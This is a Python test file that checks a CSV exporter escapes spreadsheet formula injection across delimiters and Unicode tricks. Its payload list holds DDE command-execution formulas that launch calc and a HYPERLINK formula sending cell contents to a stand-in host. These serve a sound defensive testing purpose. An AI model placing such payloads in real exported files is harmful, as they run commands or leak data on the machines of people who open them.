import csv
import io
import random

import pytest

from memory.attributes import Mode
from memory.portable.document import Document, Slot, write_csv
from tests.portable.build import NOON, fact

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b")
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.test?"&A1,"here")',
    "+44 20",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "   =1+1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\uff1d1+1",
    '";=1+1',
    "a;=1+1",
    "a\n=1+1",
    'a\t=DDE("cmd";"/C calc";"!A0")',
)


def written(*facts, slots=()):
    return "".join(write_csv(Document(name="Priya", made_at=NOON, facts=facts, slots=slots)))


def rows(text, delimiter=","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def starts(cells):
    """Cells that a spreadsheet would run: none may."""
    return [cell for cell in cells if cell.lstrip(" \u00a0\u200b\ufeff\n").startswith(TRIGGERS)]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_no_cell_starts_with_a_formula_under_any_separator(formula, delimiter):
    text = written(fact("diet", formula), slots=(Slot(slot="diet", subject=formula),))
    assert not starts(cell for row in rows(text, delimiter) for cell in row)


def test_none_of_500_generated_cells_starts_with_a_formula():
    draw = random.Random(15)
    pieces = [*TRIGGERS, "\n", " ", ";", ",", '"', "'", "|", "a", "1", "cmd"]
    cells = ["".join(draw.choices(pieces, k=draw.randint(1, 8))) for _ in range(500)]
    found = rows(written(*(fact("diet", cell) for cell in cells)))
    assert len(found) == 501
    assert not starts(row[1] for row in found)


@pytest.mark.parametrize(
    "value",
    ["eats fish", 'says "no", twice', "a = b", "two-year-old", "caf\u00e9; tea", "'tis so"],
)
def test_an_ordinary_value_stays_as_it_is(value):
    assert rows(written(fact("diet", value)))[1][1] == value


def test_every_line_ends_as_rfc_4180_says_and_has_every_column():
    text = written(fact("diet", "eats\nfish"), fact("diet.meat", "does not eat meat"))
    assert text.count("\r\n") == 3
    assert {len(row) for row in rows(text)} == {12}


def test_a_key_and_a_companion_are_made_safe_too():
    facts = fact("=cmd|", "is so")
    slot = Slot(slot="=cmd|", subject="@Sam", mode=Mode.INSTRUCTION)
    assert rows(written(facts, slots=(slot,)))[1][:4] == ["'=cmd|", "is so", "'@Sam", "instruction"]
